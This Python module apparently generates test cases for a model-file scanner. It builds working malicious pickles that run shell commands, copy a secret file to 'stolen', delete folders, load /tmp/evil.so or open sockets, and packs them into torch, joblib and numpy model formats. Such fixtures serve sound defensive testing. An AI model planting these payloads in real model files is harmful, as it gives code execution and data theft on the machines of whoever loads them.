"""Pickles that call what they name, in every wrapping that model files have."""

import io
import pickle
import struct
import zipfile
import zlib
from pathlib import Path

from hostile import Hostile, World


class Call:
    """Pickled as a call of `function` with `arguments`."""

    def __init__(self, function, *arguments):
        self.function, self.arguments = function, arguments

    def __reduce__(self):
        return self.function, self.arguments


class Named:
    """Pickled as a global, whether it exists here or not."""

    def __init__(self, module, name):
        self.module, self.name = module, name


class Writer(pickle._Pickler):
    """Writes a Named as the opcode GLOBAL."""

    def save(self, one, save_persistent_id=True):
        if isinstance(one, Named):
            self.write(b"c" + one.module.encode() + b"\n" + one.name.encode() + b"\n")
        elif isinstance(one, Call):
            self.save(one.function)
            self.save(one.arguments)
            self.write(pickle.REDUCE)
        else:
            super().save(one, save_persistent_id)


def dumped(value, protocol=2) -> bytes:
    out = io.BytesIO()
    Writer(out, protocol).dump(value)
    return out.getvalue()


def call(module, name, *arguments):
    return Call(Named(module, name), *arguments)


def gadgets(world: World):
    """What a pickle may call to run code, read or write."""
    code = world.code
    shell = f"cp {world.secret} {world.folder}/stolen; echo x > {world.target}"
    return {
        "os_system": call("posix", "system", shell),
        "popen": call("subprocess", "Popen", ["/bin/sh", "-c", shell]),
        "exec": call("builtins", "exec", code),
        "eval": call("builtins", "eval", f"exec({code!r})"),
        "import": call("builtins", "__import__", "antigravity"),
        "runpy": call("runpy", "_run_code", call("builtins", "compile", code, "x", "exec"), {}),
        "getattr_chain": Call(call("builtins", "getattr", call("builtins", "__import__", "os"), "system"), shell),
        "open_to_write": call("builtins", "open", str(world.target), "w"),
        "read_secret": call("numpy", "fromfile", str(world.secret), "u1"),
        "numpy_memmap": call("numpy", "memmap", str(world.target), "u1", "r+"),
        "rmtree": call("shutil", "rmtree", str(world.folder)),
        "ctypes": call("ctypes", "CDLL", "/tmp/evil.so"),
        "socket": call("socket", "create_connection", ("127.0.0.1", 9)),
        "torch_load_again": call("torch.storage", "_load_from_bytes", pickle.dumps(Call(eval, "1"))),
        "torch_from_file": call("torch", "from_file", str(world.target), True, 4),
        "torch_hub": call("torch.hub", "load", "someone/repository", "model"),
        "cpp_extension": call("torch.utils.cpp_extension", "load_inline", "x", "int main(){}"),
        "code_object": call("types", "FunctionType", call("builtins", "compile", code, "x", "exec"), {}),
        "operator": Call(call("operator", "methodcaller", "system", shell), call("builtins", "__import__", "os")),
        "joblib_loads": call("joblib", "load", str(world.secret)),
    }


def archive(path: Path, data: bytes, **more: bytes) -> Path:
    """A zip as torch.save writes it."""
    with zipfile.ZipFile(path, "w") as file:
        file.writestr("archive/data.pkl", data)
        file.writestr("archive/byteorder", "little")
        file.writestr("archive/version", "3\n")
        for name, content in more.items():
            file.writestr(f"archive/{name}", content)
    return path


def legacy(path: Path, data: bytes) -> Path:
    """A stream as torch.save wrote it before 1.6."""
    heads = (0x1950A86A20F9469CFC6C, 1001, {"protocol_version": 1001, "little_endian": True, "type_sizes": {}})
    path.write_bytes(b"".join(pickle.dumps(one, 2) for one in heads) + data + pickle.dumps([], 2))
    return path


def object_array(data: bytes) -> bytes:
    """A .npy of one object."""
    head = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    head += b" " * (-(10 + len(head) + 1) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(head)) + head + data


def zipped_arrays(path: Path, data: bytes) -> Path:
    with zipfile.ZipFile(path, "w") as file:
        file.writestr("weights.npy", object_array(data))
    return path


def plain(path: Path, data: bytes) -> Path:
    path.write_bytes(data)
    return path


WRAPPINGS = {
    "pt_zip": ("model.pt", archive),
    "pt_legacy": ("model.pth", legacy),
    "bin": ("pytorch_model.bin", archive),
    "pkl": ("model.pkl", plain),
    "joblib": ("model.joblib", plain),
    "joblib_zlib": ("model.joblib.z", lambda path, data: plain(path, zlib.compress(data))),
    "npy": ("model.npy", lambda path, data: plain(path, object_array(data))),
    "npz": ("model.npz", zipped_arrays),
}
NAMES = tuple(gadgets(World(Path("/x/secret"), Path("/x/target"), Path("/x"))))


def build(gadget, wrapping):
    def made(folder: Path, world: World) -> Path:
        name, wrap = WRAPPINGS[wrapping]
        one = gadgets(world)[gadget]
        return wrap(folder / name, dumped({"fc.weight": one, "state_dict": one} if "pt" in wrapping else one))

    return made


ENTRIES = tuple(
    Hostile(
        f"pickle_{gadget}_{wrapping}", wrapping, f"a pickle that calls {gadget}, as {wrapping}", build(gadget, wrapping)
    )
    for number, gadget in enumerate(NAMES)
    for place, wrapping in enumerate(WRAPPINGS)
    if (number + place) % 4 == 0 or gadget == "exec"
)
